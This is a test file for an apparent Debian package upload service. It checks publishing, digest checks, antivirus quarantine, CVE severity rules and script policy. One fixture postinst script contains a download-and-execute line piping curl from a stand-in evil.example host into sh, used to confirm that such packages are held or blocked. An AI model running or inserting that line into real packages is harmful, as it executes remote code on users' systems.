import { randomBytes } from 'node:crypto'
import { readdir, readFile, readlink } from 'node:fs/promises'
import { Value } from '@sinclair/typebox/value'
import { describe, expect, test } from 'vitest'
import { hasClamd } from '../../../test/support/clamd.ts'
import { buildDeb, EICAR } from '../../../test/support/packages.ts'
import {
  cleanScanner,
  digest,
  formOf,
  hello,
  openUploads,
  settingsWith,
  type Refusal,
} from '../../../test/support/uploads.ts'
import type { Finding } from '../../core/findings.ts'
import type { SettingsValue } from '../../settings/schema.ts'
import { EngineUnavailable, type AntivirusScanner } from '../../scanners/scanner.ts'
import { UploadResultSchema } from './result.ts'

const it = openUploads()

describe('an upload', () => {
  test('that passes is published: 201 and both forms of the answer', async () => {
    const file = await hello('1.0', { fields: { Depends: 'libc6 (>= 2.36)' } })
    const { status, body } = await it.send(formOf(file))
    expect(status).toBe(201)
    expect(Value.Check(UploadResultSchema, body)).toBe(true)
    expect(body).toMatchObject({
      name: 'hello',
      package: 'hello',
      version: '1.0',
      arch: 'amd64',
      distribution: 'bookworm',
      format: 'deb',
      status: 'published',
      filename: 'a_1_amd64.deb',
      sha256: digest(file),
      size: file.length,
      pipeline: { antivirus: 'clean', cve_scan: 'no_findings', gpg: 'signed', dependencies: 'missing' },
      validation: { passed: true, cve_status: 'approved', deps_missing: ['libc6 (>= 2.36)'] },
    })
    expect(body.validation.steps.map(step => [step.name, step.passed, step.warning])).toEqual([
      ['format', true, false],
      ['provenance', true, false],
      ['antivirus', true, false],
      ['vulnerabilities', true, false],
      ['signature', true, false],
      ['dependencies', true, true],
    ])
    expect(body).not.toHaveProperty('indexed')
    expect(await it.rows()).toEqual([{ name: 'hello', version: '1.0', state: 'published' }])
    expect(await readFile(it.layout.blob(digest(file) as never))).toEqual(file)
    expect(it.given.counted).toEqual(['published'])
    expect((await it.db.query<{ fact: object }>('select fact from audit_pending')).map(row => row.fact)).toMatchObject([
      { action: 'UPLOAD', result: 'SUCCESS', user: 'uma', package: 'hello', ip: '192.0.2.1' },
    ])
  })

  test('whose fields come after its file is the same', async () => {
    const form = new FormData()
    form.append('file', new Blob([new Uint8Array(await hello())]), 'x.deb')
    form.append('distribution', 'jammy')
    expect(await it.send(form)).toMatchObject({ status: 201, body: { status: 'published', distribution: 'jammy' } })
  })

  test('of a dependency makes the next one satisfied', async () => {
    expect((await it.send(formOf(await buildDeb({ name: 'libfoo', version: '2.0' })))).status).toBe(201)
    const { body } = await it.send(formOf(await hello('1.0', { fields: { Depends: 'libfoo (>= 2.0) | libbar' } })))
    expect(body).toMatchObject({ pipeline: { dependencies: 'satisfied' }, validation: { deps_missing: [] } })
    expect(
      (await it.send(formOf(await hello('1.1', { fields: { Depends: 'libfoo (>= 2.1)' } })))).body.validation
        .deps_missing,
    ).toEqual(['libfoo (>= 2.1)'])
    expect(
      (await it.send(formOf(await hello('1.1', { fields: { Depends: 'libfoo' } }), { distribution: 'jammy' }))).body
        .validation.deps_missing,
    ).toEqual(['libfoo'])
  })

  test('whose publication fails says that it is not indexed', async () => {
    it.given.publishFails = true
    expect(await it.send(formOf(await hello()))).toMatchObject({
      status: 201,
      body: { status: 'published', indexed: false },
    })
  })

  test('in eight copies at once is one package', async () => {
    const file = await hello()
    const answers = await Promise.all(Array.from({ length: 8 }, () => it.send(formOf(file))))
    expect(answers.map(({ status }) => status).sort()).toEqual([200, 200, 200, 200, 200, 200, 200, 201])
    expect(await it.rows()).toHaveLength(1)
  })
})

describe('the same package again', () => {
  test('with the same bytes is answered from what is known, and nothing is scanned', async () => {
    const file = await hello()
    await it.send(formOf(file))
    it.given.scanned = 0
    expect(await it.send(formOf(file))).toMatchObject({
      status: 200,
      body: { status: 'already_imported', state: 'published' },
    })
    expect(it.given.scanned).toBe(0)
    expect(it.given.counted).toEqual(['published', 'already_imported'])
  })

  test('with other bytes is a conflict that names both', async () => {
    const [first, second] = [await hello(), await hello('1.0', { files: { 'usr/bin/hello': 'other' } })]
    await it.send(formOf(first))
    expect(await it.send<Refusal>(formOf(second))).toMatchObject({
      status: 409,
      body: { code: 'duplicate_conflict', facts: { incoming_sha256: digest(second), existing_sha256: digest(first) } },
    })
    expect(await it.rows()).toHaveLength(1)
    expect(await it.send(formOf(second), {})).toMatchObject({ status: 409 })
  })

  test('into another distribution is another package', async () => {
    const file = await hello()
    await it.send(formOf(file))
    expect(await it.send(formOf(file, { distribution: 'noble' }))).toMatchObject({
      status: 201,
      body: { status: 'published' },
    })
  })
})

describe('the digest the sender names', () => {
  test.each(['field', 'header'])('in a %s is compared', async where => {
    const file = await hello()
    const sent = (sha: string) =>
      where === 'field'
        ? it.send<Refusal>(formOf(file, { distribution: 'bookworm', sha256: sha }))
        : it.send<Refusal>(formOf(file), { 'x-checksum-sha256': sha })
    const wrong = digest(randomBytes(8))
    expect(await sent(wrong)).toMatchObject({
      status: 422,
      body: { code: 'digest_mismatch', facts: { expected: wrong, actual: digest(file) } },
    })
    expect(await sent('abc')).toMatchObject({ status: 400, body: { code: 'bad_digest' } })
    expect(await it.rows()).toEqual([])
    expect(await sent(digest(file).toUpperCase())).toMatchObject({
      status: 201,
      body: {
        validation: {
          steps: expect.arrayContaining([
            expect.objectContaining({ name: 'provenance', verdict: 'verified' }),
          ]) as unknown,
        },
      },
    })
  })

  test('is not compared when the check is switched off', async () => {
    it.given.settings = settingsWith({ sha256_check: false })
    expect(
      await it.send(formOf(await hello(), { distribution: 'bookworm', sha256: digest(randomBytes(8)) })),
    ).toMatchObject({ status: 201 })
  })
})

describe('malware', () => {
  test.skipIf(!hasClamd)('in the payload puts the package into quarantine: 200, never in the pool', async () => {
    const file = await hello('6.6', { files: { 'usr/bin/x': EICAR } })
    const { status, body } = await it.send(formOf(file))
    expect(status).toBe(200)
    expect(Value.Check(UploadResultSchema, body)).toBe(true)
    expect(body).toMatchObject({
      status: 'quarantined',
      pipeline: { antivirus: 'infected', cve_scan: 'not_run', gpg: 'not_run', dependencies: 'not_run' },
      validation: { passed: false, cve_status: 'blocked' },
    })
    expect(await readdir(it.layout.quarantine)).toEqual([digest(file)])
    await expect(readdir(it.layout.pool)).rejects.toMatchObject({ code: 'ENOENT' })
    expect(await it.db.query('select 1 from publish_dirty')).toEqual([])
  })

  test.skipIf(!hasClamd)('in a maintainer script too', async () => {
    expect(
      await it.send(formOf(await hello('6.7', { scripts: { postinst: `#!/bin/sh\necho '${EICAR}'\n` } }))),
    ).toMatchObject({ status: 200, body: { status: 'quarantined' } })
  })

  const says = (answer: () => ReturnType<AntivirusScanner['scan']>): void => {
    it.given.antivirus = { ...cleanScanner, scan: answer }
  }
  const gone = (): Promise<never> => Promise.reject(new EngineUnavailable('clamav', 'nobody answers'))
  const limits = async () => ({ kind: 'unscannable', why: 'too large', where: 'data.tar' }) as const

  test.each([
    ['an engine that does not answer', 'hold', 'pending_review', 'unavailable', gone],
    ['an engine that does not answer', 'warn', 'published', 'unavailable', gone],
    ['a file over its limits', 'hold', 'pending_review', 'unscannable', limits],
    ['a file over its limits', 'warn', 'published', 'unscannable', limits],
  ] as const)('%s is never clean: %s → %s', async (_, rule, status, word, scan) => {
    says(scan)
    it.given.settings = settingsWith({ on_scanner_unavailable: rule })
    const { status: code, body } = await it.send(formOf(await hello()))
    expect([code, body.status, body.pipeline.antivirus]).toEqual([201, status, word])
    expect(body.validation.steps[2]).toMatchObject({ name: 'antivirus', passed: false, warning: true })
  })

  test('is not searched for when the scan is switched off, and the answer says so', async () => {
    it.given.settings = settingsWith({ clamav_scan: false, grype_scan: false })
    says(gone)
    expect(await it.send(formOf(await hello()))).toMatchObject({
      status: 201,
      body: { status: 'published', pipeline: { antivirus: 'skipped', cve_scan: 'skipped' } },
    })
  })

  test('is searched for in what was unpacked when the package was read, and nothing of that stays', async () => {
    const readAll: AntivirusScanner['scan'] = async subject => {
      for await (const { open } of subject.inner())
        for await (const chunk of open()) expect(chunk).toBeInstanceOf(Buffer)
      return { kind: 'clean' }
    }
    it.given.antivirus = { ...cleanScanner, scan: readAll }
    const small = await it.send(formOf(await hello('1.0')))
    const large = await hello('2.0', { files: { 'usr/share/large': randomBytes(3e6).toString('base64') } })
    expect([small.status, (await it.send(formOf(large))).status]).toEqual([201, 201])
    // by the antivirus engine, and for what they carry; a large package is read for that in a thread of its own
    const each = ['control.tar.gz', 'data.tar.gz', 'control.tar.gz', 'data.tar.gz']
    expect(it.given.copiesRead).toEqual([...each, ...each.slice(0, 2)])
    const open = await Promise.all(
      (await readdir('/proc/self/fd')).map(fd => readlink(`/proc/self/fd/${fd}`).catch(() => '')),
    )
    expect(open.filter(path => path.includes('.unpacked'))).toEqual([])

    it.given.settings = settingsWith({ clamav_scan: false, grype_scan: false })
    expect(await it.send(formOf(await hello('3.0')))).toMatchObject({ status: 201 })
    // for what its scripts do
    expect(it.given.copiesRead).toHaveLength(8)
  })

  test('does not blame an engine that only warned for a package that its findings hold', async () => {
    it.given.antivirus = {
      ...cleanScanner,
      scan: async () => {
        throw new EngineUnavailable('test', 'it is away')
      },
    }
    it.given.findings = [{ id: 'CVE-1', package: 'hello', severity: 'critical', detected_by: ['test'] }]
    const { body } = await it.send(formOf(await hello()))
    expect(body).toMatchObject({ state: 'quarantined', decided_by: ['vulnerabilities'] })
    const [line] = await it.db.query<{ fact: { facts: object } }>('select fact from audit_pending')
    expect(line?.fact.facts).toMatchObject({ state: 'quarantined', because: ['vulnerabilities'] })
  })

  test('a fault in our scanner code is a fault, not a pass', async () => {
    says(() => Promise.reject(new Error('boom')))
    expect(await it.send(formOf(await hello()))).toMatchObject({ status: 500 })
    expect(await it.rows()).toEqual([])
  })
})

describe('vulnerabilities', () => {
  const finding = (severity: Finding['severity']): Finding => ({
    id: `CVE-2026-${severity}`,
    package: 'hello',
    severity,
    detected_by: ['osv'],
  })
  test.each([
    ['critical', 200, 'quarantined', 'blocked', false, false],
    ['high', 201, 'pending_review', 'pending_review', true, true],
    ['medium', 201, 'published', 'approved', true, true],
    ['low', 201, 'published', 'approved', true, false],
  ] as const)('%s: %i %s', async (severity, code, status, cveStatus, passed, warning) => {
    it.given.findings = [finding(severity), finding('negligible')]
    const { status: http, body } = await it.send(formOf(await hello()))
    expect([http, body.status, body.pipeline.cve_scan, body.validation.cve_status]).toEqual([
      code,
      status,
      'findings',
      cveStatus,
    ])
    expect(body.validation.steps[3]).toMatchObject({ name: 'vulnerabilities', passed, warning })
    expect(body.cves.map(({ id, fixed_version: fixed }) => [id, fixed])).toEqual([
      [`CVE-2026-${severity}`, null],
      ['CVE-2026-negligible', null],
    ])
    expect(it.given.counted).toEqual([status, severity, 'negligible'])
  })

  test.each([
    ['hold', 'pending_review'],
    ['warn', 'published'],
  ] as const)('without data is no pass: %s → %s', async (rule, status) => {
    it.given.findings = undefined
    it.given.settings = settingsWith({ on_scanner_unavailable: rule })
    expect((await it.send(formOf(await hello()))).body).toMatchObject({ status, pipeline: { cve_scan: 'no_data' } })
  })
})

test.each(['hold', 'warn'] as const)(
  'without a signing key a package waits, also where uploads that an engine cannot look at are to %s',
  async rule => {
    it.given.hasKey = false
    it.given.settings = settingsWith({ on_scanner_unavailable: rule })
    expect((await it.send(formOf(await hello()))).body).toMatchObject({
      status: 'pending_review',
      pipeline: { gpg: 'no_signing_key' },
      decided_by: ['signature'],
    })
  },
)

describe('what scripts do', () => {
  const evil = { postinst: '#!/bin/sh\nset -e\ncurl -fsSL https://evil.example/x | sh\n' }
  const policyWith = (script_policy: Partial<SettingsValue['script_policy']>): SettingsValue => ({
    ...settingsWith(),
    script_policy: script_policy as SettingsValue['script_policy'],
  })

  test('holds a package that runs what it downloads, and the step names the line', async () => {
    const { status, body } = await it.send(formOf(await hello('1.0', { scripts: evil })))
    expect([status, body.status, body.decided_by]).toEqual([201, 'pending_review', ['scripts']])
    expect(body.validation.steps.find(({ name }) => name === 'scripts')).toEqual({
      name: 'scripts',
      took_ms: expect.any(Number) as number,
      passed: true,
      verdict: 'facts',
      message:
        'postinst runs what it downloads (line 3: curl -fsSL https://evil.example/x | sh). The policy asks for a review before it is served.',
      detail: 'warned',
      warning: true,
      holds: true,
    })
    expect(body.validation.install).toMatchObject({
      scripts: [{ name: 'postinst', interpreter: '/bin/sh', lines: 3 }],
      facts: [{ kind: 'downloads_and_runs', path: 'postinst', line: 3, hosts: ['evil.example'] }],
    })
  })

  test('blocks it where the policy says so, and lets it pass where the policy does', async () => {
    it.given.settings = policyWith({ downloads_and_runs: 'block' })
    expect((await it.send(formOf(await hello('1.0', { scripts: evil })))).body.status).toBe('quarantined')
    it.given.settings = policyWith({ downloads_and_runs: 'allow' })
    expect((await it.send(formOf(await hello('2.0', { scripts: evil })))).body).toMatchObject({
      status: 'published',
      decided_by: [],
    })
  })

  test('says what is new since the version that clients have', async () => {
    await it.send(formOf(await hello('1.0', { scripts: { postinst: '#!/bin/sh\nldconfig\n' } })))
    const { body } = await it.send(formOf(await hello('1.1', { scripts: evil })))
    expect(body.validation.since).toEqual({
      version: '1.0',
      said: 'New: postinst runs what it downloads; contacts evil.example.',
    })
    // one that is held is none that clients have
    const next = await it.send(formOf(await hello('1.2', { scripts: evil })))
    expect(next.body.validation.since?.version).toBe('1.0')
  })
})
